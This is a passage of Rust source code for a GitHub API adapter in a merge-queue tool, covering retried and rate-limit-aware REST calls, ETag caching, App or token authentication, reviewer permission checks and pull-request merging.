//! The GitHub adapter: the [`Forge`] trait over GitHub's REST API, with
//! octocrab as the HTTP client and octocrab's models as the wire types.
//!
//! Every call is bounded by the configured timeout and retried (5xx,
//! timeouts, transport errors, rate limits) with exponential backoff. The
//! raw octocrab methods are used so status codes and headers stay visible.
//!
//! Budget: every GET sluice repeats is conditional (`If-None-Match` with the
//! `ETag` of the last 200 for that exact path, see [`cache`]); a `304 Not
//! Modified` is answered from the cache, is never an error and never
//! retried, and GitHub does not count it against the rate limit. Every
//! reply's `x-ratelimit-*` headers are recorded ([`Forge::api_budget`]).
//!
//! Authentication: a personal token ([`GitHub::new`]), or a GitHub App
//! ([`GitHub::new_app`]): each repository's calls then go out with its
//! installation's token, minted, renewed and re-minted after a 401 as
//! [`app`] describes. Everything above `send` is the same in both modes.

pub mod app;
mod cache;
mod check_runs;
mod checks;
mod train;

use super::convert::pr_snapshot;
use super::{
    ApiBudget, CarStep, CommitStatus, Forge, ForgeError, ListedPr, PrClose, PrFetch, RefUpdate,
};
use crate::config::GithubConfig;
use crate::core::{
    MergeMethod, MergeResult, PrKey, PrSnapshot, RepoName, ReviewFact, ReviewState, Sha, Timestamp,
};
use app::{AppAuth, AppKey, Failure};
use bytes::Bytes;
pub use cache::ETAG_CACHE_ENTRIES;
use cache::{Cached, EtagCache};
use http::{HeaderMap, HeaderValue, Method, StatusCode, Uri};
use http_body_util::BodyExt;
use octocrab::Octocrab;
use octocrab::models::pulls::{self, PullRequest, Review};
use octocrab::models::repos::Branch;
use serde::de::DeserializeOwned;
use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

/// The longest wait between two attempts. A rate limit that asks for more
/// is not slept through: the call fails and is retried later by its caller.
pub const MAX_WAIT: Duration = Duration::from_secs(60);
/// How long a reviewer's permission is remembered without asking GitHub;
/// after that it is asked again, conditionally (a 304 costs nothing).
pub const PERMISSION_TTL: Duration = Duration::from_secs(300);
/// How long a branch's required checks are remembered without asking
/// GitHub (an unprotected branch's 404 cannot be asked conditionally).
/// Safe to remember: GitHub enforces protection on the landing itself, and
/// a landing refused by it forgets the branch's entry.
pub const REQUIRED_CHECKS_TTL: Duration = Duration::from_secs(300);
/// How many (repository, reviewer) permissions are remembered; past that,
/// expired ones go first, then the oldest.
pub const PERMISSION_ENTRIES: usize = 10_000;
/// GitHub's limit on a commit status description, in characters.
pub const MAX_DESCRIPTION_CHARS: usize = 140;
/// Stop following `Link: rel="next"` after this many pages.
const MAX_PAGES: usize = 1000;

/// The GitHub REST API as a [`Forge`].
pub struct GitHub {
    client: Octocrab,
    /// The API base, to turn `Link` URLs back into paths.
    base: Uri,
    timeout: Duration,
    max_retries: u32,
    backoff_base: Duration,
    status_context: String,
    permissions: Mutex<HashMap<(RepoName, String), (Instant, bool)>>,
    /// Each gated branch's required checks, read at most every
    /// [`REQUIRED_CHECKS_TTL`] (one entry per branch a train lands on).
    required_checks: Mutex<RequiredChecksCache>,
    /// ETags and converted answers of repeated GETs (bounded, LRU).
    etags: Mutex<EtagCache>,
    budget: Arc<BudgetCell>,
    /// Write check runs instead of commit statuses (`github.check_runs`).
    check_runs: bool,
    /// The check run of each commit sluice wrote one on (bounded).
    check_run_ids: Mutex<HashMap<(RepoName, Sha), u64>>,
    /// As an App, jobs fetch with a token of their own
    /// (`github.app.clone_with_token`).
    clone_tokens: bool,
    /// As a GitHub App: `client` is the App's (JWT), and each repository's
    /// calls go out on its installation's client ([`app`]).
    app: Option<AppAuth>,
}

const UNKNOWN: u64 = u64::MAX;

/// (repository, branch) → when read, the contexts it requires.
type RequiredChecksCache = HashMap<(RepoName, String), (Instant, Vec<String>)>;

/// What GitHub's replies said about the rate limit, and what was spent.
struct BudgetCell {
    limit: AtomicU64,
    remaining: AtomicU64,
    reset: AtomicU64,
    counted: AtomicU64,
    not_modified: AtomicU64,
}

impl BudgetCell {
    fn new() -> BudgetCell {
        BudgetCell {
            limit: AtomicU64::new(UNKNOWN),
            remaining: AtomicU64::new(UNKNOWN),
            reset: AtomicU64::new(UNKNOWN),
            counted: AtomicU64::new(0),
            not_modified: AtomicU64::new(0),
        }
    }

    /// Records one reply. Headers that are missing or not numbers are
    /// ignored (the last good value stays).
    fn observe(&self, status: StatusCode, headers: &HeaderMap) {
        if status == StatusCode::NOT_MODIFIED {
            self.not_modified.fetch_add(1, Ordering::Relaxed);
        } else {
            self.counted.fetch_add(1, Ordering::Relaxed);
        }
        for (name, cell) in [
            ("x-ratelimit-limit", &self.limit),
            ("x-ratelimit-remaining", &self.remaining),
            ("x-ratelimit-reset", &self.reset),
        ] {
            if let Some(v) = headers
                .get(name)
                .and_then(|v| v.to_str().ok())
                .and_then(|v| v.trim().parse::<u64>().ok())
                .filter(|v| *v != UNKNOWN)
            {
                cell.store(v, Ordering::Relaxed);
            }
        }
    }

    fn snapshot(&self) -> ApiBudget {
        let known = |cell: &AtomicU64| Some(cell.load(Ordering::Relaxed)).filter(|v| *v != UNKNOWN);
        ApiBudget {
            limit: known(&self.limit),
            remaining: known(&self.remaining),
            reset_unix: known(&self.reset),
            counted: self.counted.load(Ordering::Relaxed),
            not_modified: self.not_modified.load(Ordering::Relaxed),
        }
    }
}

/// One answer of a conditional GET, fresh or from the cache.
struct Fetched<V> {
    value: V,
    /// `Link: rel="next"`, as sent.
    next: Option<String>,
}

/// A review as the cache keeps it: only what sluice reads.
#[derive(Clone)]
struct ReviewItem {
    login: Option<String>,
    state: ReviewState,
    id: u64,
}

impl std::fmt::Debug for GitHub {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("GitHub")
            .field("base", &self.base)
            .field("timeout", &self.timeout)
            .field("max_retries", &self.max_retries)
            .finish_non_exhaustive()
    }
}

/// A response, read whole.
struct Reply {
    status: StatusCode,
    headers: HeaderMap,
    body: Bytes,
}

impl Reply {
    /// GitHub's `message`, or the start of the body.
    fn message(&self) -> String {
        #[derive(serde::Deserialize)]
        struct ErrorBody {
            message: Option<String>,
        }
        match serde_json::from_slice::<ErrorBody>(&self.body) {
            Ok(ErrorBody { message: Some(m) }) => m,
            _ => {
                let text = String::from_utf8_lossy(&self.body);
                let text: String = text.trim().chars().take(200).collect();
                if text.is_empty() {
                    self.status
                        .canonical_reason()
                        .unwrap_or("no message")
                        .to_string()
                } else {
                    text
                }
            }
        }
    }

    fn error(&self, what: &str) -> ForgeError {
        ForgeError::Http {
            what: what.to_string(),
            status: self.status.as_u16(),
            message: self.message(),
        }
    }

    fn decode<T: DeserializeOwned>(&self, what: &str) -> Result<T, ForgeError> {
        serde_json::from_slice(&self.body).map_err(|e| ForgeError::Decode {
            what: what.to_string(),
            message: e.to_string(),
        })
    }

    fn expect_success(self, what: &str) -> Result<Reply, ForgeError> {
        if self.status.is_success() {
            Ok(self)
        } else {
            Err(self.error(what))
        }
    }
}

/// What to do after one attempt.
enum Verdict {
    Done(Result<Reply, ForgeError>),
    Retry {
        last: Result<Reply, ForgeError>,
        wait: Duration,
    },
}

impl GitHub {
    /// With a personal token (or none: unauthenticated).
    pub fn new(config: &GithubConfig, token: Option<String>) -> Result<GitHub, ForgeError> {
        GitHub::build(config, Auth::Token(token))
    }

    /// As the GitHub App of `key`: installation tokens, per repository.
    /// Call [`GitHub::verify_app`] once before use to learn early whether
    /// GitHub takes the key.
    pub fn new_app(config: &GithubConfig, key: AppKey) -> Result<GitHub, ForgeError> {
        GitHub::build(config, Auth::App(key))
    }

    fn build(config: &GithubConfig, auth: Auth) -> Result<GitHub, ForgeError> {
        let what = "building the GitHub client";
        let base: Uri = config.api_url.parse().map_err(|e| ForgeError::Transport {
            what: what.into(),
            message: format!("github.api_url {:?}: {e}", config.api_url),
        })?;
        let builder =
            Octocrab::builder()
                .base_uri(base.clone())
                .map_err(|e| ForgeError::Transport {
                    what: what.into(),
                    message: e.to_string(),
                })?;
        let (builder, key) = match auth {
            Auth::Token(Some(token)) => (builder.personal_token(token), None),
            Auth::Token(None) => (builder, None),
            Auth::App(key) => (
                builder.app(octocrab::models::AppId(key.app_id()), key.signing_key()),
                Some(key),
            ),
        };
        let client = builder.build().map_err(|e| ForgeError::Transport {
            what: what.into(),
            message: e.to_string(),
        })?;
        let app = key.map(|key| AppAuth::new(client.clone(), &key));
        Ok(GitHub {
            client,
            base,
            timeout: Duration::from_secs(config.request_timeout_secs.max(1)),
            max_retries: config.max_retries,
            backoff_base: Duration::from_millis(500),
            status_context: config.status_context.clone(),
            permissions: Mutex::new(HashMap::new()),
            required_checks: Mutex::new(HashMap::new()),
            etags: Mutex::new(EtagCache::new(ETAG_CACHE_ENTRIES)),
            budget: Arc::new(BudgetCell::new()),
            check_runs: config.check_runs,
            check_run_ids: Mutex::new(HashMap::new()),
            clone_tokens: config.app.as_ref().is_some_and(|a| a.clone_with_token),
            app,
        })
    }

    /// Whether this adapter runs as a GitHub App.
    pub fn is_app(&self) -> bool {
        self.app.is_some()
    }

    /// Sets the first backoff wait (doubled on each retry; default 500 ms).
    pub fn with_backoff_base(mut self, base: Duration) -> GitHub {
        self.backoff_base = base;
        self
    }

    /// One call with its retries. Returns the last response, whatever its
    /// status, once it is not worth retrying (or retries ran out).
    async fn call(
        &self,
        method: Method,
        path: &str,
        body: Option<&serde_json::Value>,
    ) -> Result<Reply, ForgeError> {
        self.call_with(method, path, body, None).await
    }

    /// [`GitHub::call`] with an `If-None-Match` tag. A 304 is an answer
    /// like any other here: returned at once, never retried.
    async fn call_with(
        &self,
        method: Method,
        path: &str,
        body: Option<&serde_json::Value>,
        if_none_match: Option<&HeaderValue>,
    ) -> Result<Reply, ForgeError> {
        self.call_retrying(method, path, body, if_none_match, self.max_retries)
            .await
    }

    /// One attempt, under the same timeout, never retried: for a write
    /// whose lost answer must be checked before it is sent again (a
    /// comment).
    async fn call_once(
        &self,
        method: Method,
        path: &str,
        body: Option<&serde_json::Value>,
    ) -> Result<Reply, ForgeError> {
        self.call_retrying(method, path, body, None, 0).await
    }

    async fn call_retrying(
        &self,
        method: Method,
        path: &str,
        body: Option<&serde_json::Value>,
        if_none_match: Option<&HeaderValue>,
        max_retries: u32,
    ) -> Result<Reply, ForgeError> {
        let what = format!("{method} {}", path_only(path));
        let mut attempt: u32 = 0;
        loop {
            let outcome =
                tokio::time::timeout(self.timeout, self.send(&method, path, body, if_none_match))
                    .await;
            let outcome = match outcome {
                Ok(Ok(reply)) => Ok(reply),
                Ok(Err(Failure::Transport(message))) => Err(ForgeError::Transport {
                    what: what.clone(),
                    message,
                }),
                // Only as an App: no retry mends it (the key, a missing
                // installation).
                Ok(Err(Failure::Refused(refusal))) => {
                    return Err(refusal.into_error(&what));
                }
                Err(_) => Err(ForgeError::Timeout { what: what.clone() }),
            };
            let (last, wait) = match self.judge(outcome, attempt, &what) {
                Verdict::Done(result) => return result,
                Verdict::Retry { last, wait } => (last, wait),
            };
            if attempt >= max_retries {
                return last;
            }
            let status = match &last {
                Ok(reply) => reply.status.as_u16().to_string(),
                Err(e) => e.to_string(),
            };
            tracing::warn!(
                method = %method,
                path = %path_only(path),
                status = %status,
                wait_ms = wait.as_millis() as u64,
                attempt = attempt + 1,
                max_retries,
                "GitHub call failed; retrying"
            );
            tokio::time::sleep(wait).await;
            attempt += 1;
        }
    }

    fn judge(&self, outcome: Result<Reply, ForgeError>, attempt: u32, what: &str) -> Verdict {
        let backoff = backoff(self.backoff_base, attempt);
        let reply = match outcome {
            Err(e) => {
                return Verdict::Retry {
                    last: Err(e),
                    wait: backoff,
                };
            }
            Ok(reply) => reply,
        };
        let status = reply.status;
        if status.is_server_error() {
            return Verdict::Retry {
                last: Ok(reply),
                wait: backoff,
            };
        }
        if status == StatusCode::FORBIDDEN || status == StatusCode::TOO_MANY_REQUESTS {
            match limit_wait(&reply, SystemTime::now()) {
                Some(wait) if wait > MAX_WAIT => {
                    return Verdict::Done(Err(ForgeError::Http {
                        what: what.to_string(),
                        status: status.as_u16(),
                        message: format!(
                            "rate limited for {}s (more than the {}s this call waits): {}",
                            wait.as_secs(),
                            MAX_WAIT.as_secs(),
                            reply.message()
                        ),
                    }));
                }
                Some(wait) => {
                    return Verdict::Retry {
                        last: Ok(reply),
                        wait: wait.max(backoff.min(Duration::from_secs(1))),
                    };
                }
                None if status == StatusCode::TOO_MANY_REQUESTS => {
                    return Verdict::Retry {
                        last: Ok(reply),
                        wait: backoff,
                    };
                }
                None => {}
            }
        }
        Verdict::Done(Ok(reply))
    }

    /// One attempt: the request and its whole body, with the personal
    /// token, or as an App on the installation of the path's repository.
    async fn send(
        &self,
        method: &Method,
        path: &str,
        body: Option<&serde_json::Value>,
        if_none_match: Option<&HeaderValue>,
    ) -> Result<Reply, Failure> {
        match &self.app {
            None => send_on(
                &self.client,
                &self.budget,
                method,
                path,
                body,
                if_none_match,
            )
            .await
            .map_err(Failure::Transport),
            Some(app) => app.send(method, path, body, if_none_match).await,
        }
    }

    /// A GET that sluice repeats: conditional on the `ETag` of the last 200
    /// for exactly this path; a 304 answers what that 200 was turned into.
    /// `convert` turns a fresh reply (any status) into the answer; only a
    /// 200 with an `ETag` is remembered.
    async fn get_cached<V>(
        &self,
        path: &str,
        convert: impl FnOnce(&Reply) -> Result<V, ForgeError>,
    ) -> Result<Fetched<V>, ForgeError>
    where
        V: Clone + Send + Sync + 'static,
    {
        let cached = self.lock_etags().get(path);
        let tag = cached.as_ref().map(|c| c.etag.clone());
        let mut reply = self
            .call_with(Method::GET, path, None, tag.as_ref())
            .await?;
        if reply.status == StatusCode::NOT_MODIFIED {
            if let Some(c) = &cached
                && let Some(value) = c.value.downcast_ref::<V>()
            {
                return Ok(Fetched {
                    value: value.clone(),
                    next: c.next.clone(),
                });
            }
            // A 304 with nothing to stand for: ask once more, unconditionally.
            reply = self.call(Method::GET, path, None).await?;
            if reply.status == StatusCode::NOT_MODIFIED {
                return Err(ForgeError::Decode {
                    what: format!("GET {}", path_only(path)),
                    message: "304 Not Modified to a request without If-None-Match".into(),
                });
            }
        }
        let next = next_link(&reply.headers);
        let etag = reply.headers.get(http::header::ETAG).cloned();
        let value = convert(&reply)?;
        let mut etags = self.lock_etags();
        match etag {
            Some(etag) if reply.status == StatusCode::OK => etags.put(
                path,
                Cached {
                    etag,
                    value: Arc::new(value.clone()),
                    next: next.clone(),
                },
            ),
            // Gone, or no tag: the old tag must not be sent again.
            _ => etags.remove(path),
        }
        Ok(Fetched { value, next })
    }

    fn lock_etags(&self) -> std::sync::MutexGuard<'_, EtagCache> {
        self.etags
            .lock()
            .unwrap_or_else(|poisoned| poisoned.into_inner())
    }

    /// Every item of a paginated list, following `Link: rel="next"`, each
    /// page conditional; `item` converts what a page holds.
    async fn get_all_pages<T, V>(
        &self,
        first: String,
        item: impl Fn(T) -> Result<V, ForgeError>,
    ) -> Result<Vec<V>, ForgeError>
    where
        T: DeserializeOwned,
        V: Clone + Send + Sync + 'static,
    {
        let mut items = Vec::new();
        let mut next = Some(first.clone());
        let mut pages = 0;
        while let Some(path) = next.take() {
            let what = format!("GET {}", path_only(&path));
            let page = self
                .get_cached(&path, |reply| {
                    if !reply.status.is_success() {
                        return Err(reply.error(&what));
                    }
                    let page: Vec<T> = reply.decode(&what)?;
                    page.into_iter().map(&item).collect::<Result<Vec<V>, _>>()
                })
                .await?;
            items.extend(page.value);
            pages += 1;
            if pages >= MAX_PAGES {
                return Err(ForgeError::Decode {
                    what,
                    message: format!("more than {MAX_PAGES} pages"),
                });
            }
            next = match page.next {
                Some(url) => Some(self.relative(&url).map_err(|message| ForgeError::Decode {
                    what: what.clone(),
                    message,
                })?),
                None => None,
            };
            // GitHub's next-page links name the repository by id
            // (`/repositories/{id}/…`): an App routes them by the first page.
            if let (Some(app), Some(next)) = (&self.app, &next) {
                app.learn_alias(&first, next);
            }
        }
        Ok(items)
    }

    /// A `Link` URL as a path below the API base, so octocrab sends it to
    /// the same server with the same credentials. Links to another host are
    /// refused.
    fn relative(&self, url: &str) -> Result<String, String> {
        let uri: Uri = url
            .parse()
            .map_err(|e| format!("bad next-page link {url:?}: {e}"))?;
        if let Some(authority) = uri.authority()
            && Some(authority) != self.base.authority()
        {
            return Err(format!(
                "next-page link {url:?} points away from {}",
                self.base
            ));
        }
        let pq = uri.path_and_query().map(|pq| pq.as_str()).unwrap_or("/");
        let base_path = self.base.path().trim_end_matches('/');
        let rest = match pq.strip_prefix(base_path) {
            Some(rest) if !base_path.is_empty() && rest.starts_with(['/', '?']) => rest,
            _ => pq,
        };
        Ok(rest.to_string())
    }

    async fn can_write(&self, repo: &RepoName, user: &str) -> Result<bool, ForgeError> {
        let cache_key = (repo.clone(), user.to_ascii_lowercase());
        if let Some((at, can)) = self.lock_permissions().get(&cache_key)
            && at.elapsed() < PERMISSION_TTL
        {
            return Ok(*can);
        }
        #[derive(serde::Deserialize)]
        struct Permission {
            permission: Option<String>,
            role_name: Option<String>,
        }
        let path = format!("{}/collaborators/{}/permission", repo_path(repo), enc(user));
        let what = format!("GET {path}");
        let can = self
            .get_cached(&path, |reply| {
                if reply.status == StatusCode::NOT_FOUND {
                    return Ok(false);
                }
                if !reply.status.is_success() {
                    return Err(reply.error(&what));
                }
                let p: Permission = reply.decode(&what)?;
                Ok([p.permission, p.role_name]
                    .iter()
                    .flatten()
                    .any(|p| matches!(p.as_str(), "admin" | "maintain" | "write")))
            })
            .await?
            .value;
        let mut cache = self.lock_permissions();
        if cache.len() >= PERMISSION_ENTRIES {
            cache.retain(|_, (at, _)| at.elapsed() < PERMISSION_TTL);
        }
        if cache.len() >= PERMISSION_ENTRIES
            && let Some(oldest) = cache
                .iter()
                .min_by_key(|(_, (at, _))| *at)
                .map(|(k, _)| k.clone())
        {
            cache.remove(&oldest);
        }
        cache.insert(cache_key, (Instant::now(), can));
        Ok(can)
    }

    fn lock_permissions(
        &self,
    ) -> std::sync::MutexGuard<'_, HashMap<(RepoName, String), (Instant, bool)>> {
        self.permissions
            .lock()
            .unwrap_or_else(|poisoned| poisoned.into_inner())
    }

    async fn try_merge(
        &self,
        pr: &PrKey,
        head: &Sha,
        method: MergeMethod,
        title: &str,
    ) -> Result<MergeResult, ForgeError> {
        let path = format!("{}/pulls/{}/merge", repo_path(&pr.repo), pr.number);
        let what = format!("PUT {path}");
        let body = serde_json::json!({
            "sha": head.as_str(),
            "merge_method": method.as_str(),
            "commit_title": title,
        });
        // Sent once at a time: a merge whose answer was lost (a timeout, a
        // 5xx) may have happened, and a second PUT would then be refused
        // ("not mergeable": the PR is closed). The PR says which it was.
        let mut attempt = 0;
        let reply = loop {
            let reply = self.call_once(Method::PUT, &path, Some(&body)).await;
            let lost = match &reply {
                Err(ForgeError::Timeout { .. } | ForgeError::Transport { .. }) => true,
                Ok(reply) => reply.status.is_server_error(),
                Err(_) => false,
            };
            if !lost || attempt >= self.max_retries {
                break reply?;
            }
            tokio::time::sleep(backoff(self.backoff_base, attempt)).await;
            if let Ok(Some(PrFetch::Closed {
                merge_sha: Some(merge_sha),
            })) = self.get_pr(pr).await
            {
                return Ok(MergeResult::Merged { merge_sha });
            }
            attempt += 1;
        };
        Ok(match reply.status.as_u16() {
            200 => {
                let merge: pulls::Merge = reply.decode(&what)?;
                match merge.sha.as_deref().map(Sha::parse) {
                    Some(Ok(merge_sha)) if merge.merged => MergeResult::Merged { merge_sha },
                    Some(Err(e)) => MergeResult::Failed {
                        reason: format!("{what}: merged, but GitHub's answer holds {e}"),
                    },
                    _ => MergeResult::Failed {
                        reason: format!(
                            "{what}: not merged: {}",
                            merge.message.unwrap_or_default()
                        ),
                    },
                }
            }
            409 => MergeResult::HeadMoved,
            405 | 422 => MergeResult::Refused {
                reason: reply.message(),
            },
            _ => MergeResult::Failed {
                reason: reply.error(&what).to_string(),
            },
        })
    }
}

#[async_trait::async_trait]
impl Forge for GitHub {
    async fn list_open_prs(&self, repo: &RepoName) -> Result<Vec<PrSnapshot>, ForgeError> {
        Ok(self
            .list_open_pr_listings(repo)
            .await?
            .into_iter()
            .map(|listed| listed.snapshot)
            .collect())
    }

    async fn list_open_pr_listings(&self, repo: &RepoName) -> Result<Vec<ListedPr>, ForgeError> {
        let first = format!("{}/pulls?state=open&per_page=100", repo_path(repo));
        let what = format!("GET {}/pulls", repo_path(repo));
        self.get_all_pages(first, |pr: PullRequest| {
            let snapshot = pr_snapshot(repo, &pr).map_err(|e| ForgeError::Decode {
                what: what.clone(),
                message: format!("#{}: {e}", pr.number),
            })?;
            let updated_at = pr
                .updated_at
                .and_then(|t| u64::try_from(t.timestamp_millis()).ok())
                .map(Timestamp);
            Ok(ListedPr {
                snapshot,
                updated_at,
            })
        })
        .await
    }

    async fn get_pr(&self, pr: &PrKey) -> Result<Option<PrFetch>, ForgeError> {
        let path = format!("{}/pulls/{}", repo_path(&pr.repo), pr.number);
        let what = format!("GET {path}");
        let fetched = self
            .get_cached(&path, |reply| {
                if reply.status == StatusCode::NOT_FOUND {
                    return Ok(None);
                }
                if !reply.status.is_success() {
                    return Err(reply.error(&what));
                }
                let body: PullRequest = reply.decode(&what)?;
                // `state` is the authority: GitHub's own examples pair "open"
                // with a `merged_at`.
                if matches!(body.state, Some(octocrab::models::IssueState::Closed)) {
                    let merge_sha = body
                        .merged_at
                        .and(body.merge_commit_sha.as_deref())
                        .and_then(|s| Sha::parse(s).ok());
                    return Ok(Some(PrFetch::Closed { merge_sha }));
                }
                let snapshot = pr_snapshot(&pr.repo, &body).map_err(|e| ForgeError::Decode {
                    what: what.clone(),
                    message: e.to_string(),
                })?;
                Ok(Some(PrFetch::Open(snapshot)))
            })
            .await?;
        Ok(fetched.value)
    }

    async fn reviews(&self, pr: &PrKey) -> Result<Vec<ReviewFact>, ForgeError> {
        let first = format!(
            "{}/pulls/{}/reviews?per_page=100",
            repo_path(&pr.repo),
            pr.number
        );
        let reviews: Vec<ReviewItem> = self
            .get_all_pages(first, |review: Review| {
                Ok(ReviewItem {
                    login: review.user.map(|u| u.login),
                    state: review_state(review.state),
                    id: review.id.into_inner(),
                })
            })
            .await?;
        let mut writers: HashMap<String, bool> = HashMap::new();
        let mut facts = Vec::with_capacity(reviews.len());
        for review in reviews {
            // A review by a deleted account has no user: it cannot count.
            let Some(login) = review.login else { continue };
            let can_write = match writers.get(&login) {
                Some(can) => *can,
                None => {
                    let can = self.can_write(&pr.repo, &login).await?;
                    writers.insert(login.clone(), can);
                    can
                }
            };
            facts.push(ReviewFact {
                reviewer: login,
                state: review.state,
                id: review.id,
                can_write,
            });
        }
        Ok(facts)
    }

    async fn branch_head(&self, repo: &RepoName, branch: &str) -> Result<Option<Sha>, ForgeError> {
        let path = format!("{}/branches/{}", repo_path(repo), enc(branch));
        let what = format!("GET {path}");
        let fetched = self
            .get_cached(&path, |reply| {
                // 301: the branch was renamed (GitHub retargets its PRs,
                // which their webhooks or the next re-read bring): there is
                // no branch of this name any more.
                if matches!(
                    reply.status,
                    StatusCode::NOT_FOUND | StatusCode::MOVED_PERMANENTLY
                ) {
                    return Ok(None);
                }
                if !reply.status.is_success() {
                    return Err(reply.error(&what));
                }
                let body: Branch = reply.decode(&what)?;
                Sha::parse(&body.commit.sha)
                    .map(Some)
                    .map_err(|e| ForgeError::Decode {
                        what: what.clone(),
                        message: e.to_string(),
                    })
            })
            .await?;
        Ok(fetched.value)
    }

    async fn set_status(
        &self,
        repo: &RepoName,
        sha: &Sha,
        status: &CommitStatus,
    ) -> Result<(), ForgeError> {
        if self.check_runs {
            return self.write_check_run(repo, sha, status).await;
        }
        let path = format!("{}/statuses/{}", repo_path(repo), sha);
        let what = format!("POST {path}");
        let mut body = serde_json::json!({
            "state": status.state.as_str(),
            "context": self.status_context,
            "description": truncate_description(&status.description),
        });
        if let Some(url) = &status.target_url {
            body["target_url"] = serde_json::Value::String(url.clone());
        }
        self.call(Method::POST, &path, Some(&body))
            .await?
            .expect_success(&what)?;
        Ok(())
    }

    async fn merge(&self, pr: &PrKey, head: &Sha, method: MergeMethod, title: &str) -> MergeResult {
        match self.try_merge(pr, head, method, title).await {
            Ok(result) => result,
            Err(e) => MergeResult::Failed {
                reason: e.to_string(),
            },
        }
    }

    fn api_budget(&self) -> Option<ApiBudget> {
        match &self.app {
            None => Some(self.budget.snapshot()),
            Some(app) => Some(app.budget()),
        }
    }

    fn forget_installation(&self, repo: &RepoName) {
        if let Some(app) = &self.app {
            app.forget(repo);
        }
    }

    async fn clone_token(&self, repo: &RepoName) -> Result<Option<String>, ForgeError> {
        let Some(app) = self.app.as_ref().filter(|_| self.clone_tokens) else {
            return Ok(None);
        };
        let what = format!("a clone token for {repo}");
        let call = app.clone_token(repo);
        match tokio::time::timeout(self.timeout, call).await {
            Err(_) => Err(ForgeError::Timeout { what }),
            Ok(Ok(token)) => Ok(Some(token)),
            Ok(Err(app::Failure::Refused(r))) => Err(r.into_error(&what)),
            Ok(Err(app::Failure::Transport(message))) => {
                Err(ForgeError::Transport { what, message })
            }
        }
    }

    fn writes_check_runs(&self) -> bool {
        self.check_runs
    }

    async fn put_staging_ref(
        &self,
        repo: &RepoName,
        name: &str,
        sha: &Sha,
    ) -> Result<(), ForgeError> {
        self.put_staging(repo, name, sha).await
    }

    async fn merge_into_staging(
        &self,
        repo: &RepoName,
        name: &str,
        pr: u64,
        head: &Sha,
        method: MergeMethod,
        message: &str,
    ) -> Result<CarStep, ForgeError> {
        self.merge_step(repo, name, pr, head, method, message).await
    }

    async fn close_landed_pr(
        &self,
        pr: &PrKey,
        head: &Sha,
        landed: &Sha,
        comment: &str,
    ) -> Result<PrClose, ForgeError> {
        self.close_landed(pr, head, landed, comment).await
    }

    async fn fast_forward(&self, repo: &RepoName, branch: &str, sha: &Sha) -> RefUpdate {
        self.move_target(repo, branch, sha).await
    }

    async fn delete_staging_ref(&self, repo: &RepoName, name: &str) -> Result<(), ForgeError> {
        self.delete_staging(repo, name).await
    }

    async fn required_checks(
        &self,
        repo: &RepoName,
        branch: &str,
    ) -> Result<Vec<String>, ForgeError> {
        self.protection_checks(repo, branch).await
    }

    fn status_context(&self) -> &str {
        &self.status_context
    }

    async fn commit_checks(
        &self,
        repo: &RepoName,
        sha: &Sha,
    ) -> Result<Vec<super::CheckReport>, ForgeError> {
        self.checks_of(repo, sha).await
    }

    async fn staging_refs(&self, repo: &RepoName) -> Result<Vec<(String, Sha)>, ForgeError> {
        self.list_staging(repo).await
    }

    async fn is_ancestor(
        &self,
        repo: &RepoName,
        ancestor: &Sha,
        descendant: &Sha,
    ) -> Result<bool, ForgeError> {
        self.compare_holds(repo, ancestor, descendant).await
    }

    async fn user_can_write(&self, repo: &RepoName, user: &str) -> Result<bool, ForgeError> {
        self.can_write(repo, user).await
    }

    async fn react(&self, repo: &RepoName, comment: u64, content: &str) -> Result<(), ForgeError> {
        let path = format!("{}/issues/comments/{comment}/reactions", repo_path(repo));
        let what = format!("POST {path}");
        // Reacting twice is harmless (GitHub answers 200 for an existing one).
        self.call(
            Method::POST,
            &path,
            Some(&serde_json::json!({"content": content})),
        )
        .await?
        .expect_success(&what)
        .map(|_| ())
    }

    async fn answer(&self, pr: &PrKey, comment: u64, body: &str) -> Result<(), ForgeError> {
        self.comment_once(pr, &train::answer_marker(comment), body)
            .await
    }
}

/// One request on `client` and its whole body; the reply's rate-limit
/// headers go to `budget`.
async fn send_on(
    client: &Octocrab,
    budget: &BudgetCell,
    method: &Method,
    path: &str,
    body: Option<&serde_json::Value>,
    if_none_match: Option<&HeaderValue>,
) -> Result<Reply, String> {
    let response = match *method {
        Method::GET => {
            let headers = if_none_match.map(|tag| {
                let mut h = HeaderMap::new();
                h.insert(http::header::IF_NONE_MATCH, tag.clone());
                h
            });
            client._get_with_headers(path, headers).await
        }
        Method::POST => client._post(path, body).await,
        Method::PUT => client._put(path, body).await,
        Method::PATCH => client._patch(path, body).await,
        Method::DELETE => client._delete(path, body).await,
        _ => return Err(format!("method {method} is not used")),
    }
    .map_err(|e| error_chain(&e))?;
    let (parts, body) = response.into_parts();
    budget.observe(parts.status, &parts.headers);
    let body = body
        .collect()
        .await
        .map_err(|e| error_chain(&e))?
        .to_bytes();
    Ok(Reply {
        status: parts.status,
        headers: parts.headers,
        body,
    })
}

/// How a [`GitHub`] authenticates.
enum Auth {
    Token(Option<String>),
    App(AppKey),
}

fn review_state(state: Option<pulls::ReviewState>) -> ReviewState {
    match state {
        Some(pulls::ReviewState::Approved) => ReviewState::Approved,
        Some(pulls::ReviewState::ChangesRequested) => ReviewState::ChangesRequested,
        Some(pulls::ReviewState::Dismissed) => ReviewState::Dismissed,
        Some(pulls::ReviewState::Pending) => ReviewState::Pending,
        // `Commented`, `Open` and any state octocrab learns later: no verdict.
        _ => ReviewState::Commented,
    }
}

/// `/repos/{owner}/{name}`; both parts are validated to need no encoding.
fn repo_path(repo: &RepoName) -> String {
    format!("/repos/{}/{}", repo.owner(), repo.name())
}

/// Percent-encodes one path segment: everything but RFC 3986's unreserved
/// characters, so `/`, `#`, `?`, `$(…)` and spaces stay inside the segment.
pub fn enc(segment: &str) -> String {
    let mut out = String::with_capacity(segment.len());
    for b in segment.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~') {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

fn path_only(path: &str) -> &str {
    path.split_once('?').map(|(p, _)| p).unwrap_or(path)
}

/// Exponential backoff: `base * 2^attempt`, at most [`MAX_WAIT`].
fn backoff(base: Duration, attempt: u32) -> Duration {
    base.saturating_mul(2u32.saturating_pow(attempt.min(16)))
        .min(MAX_WAIT)
}

/// How long a rate-limited response asks us to wait: `Retry-After` seconds,
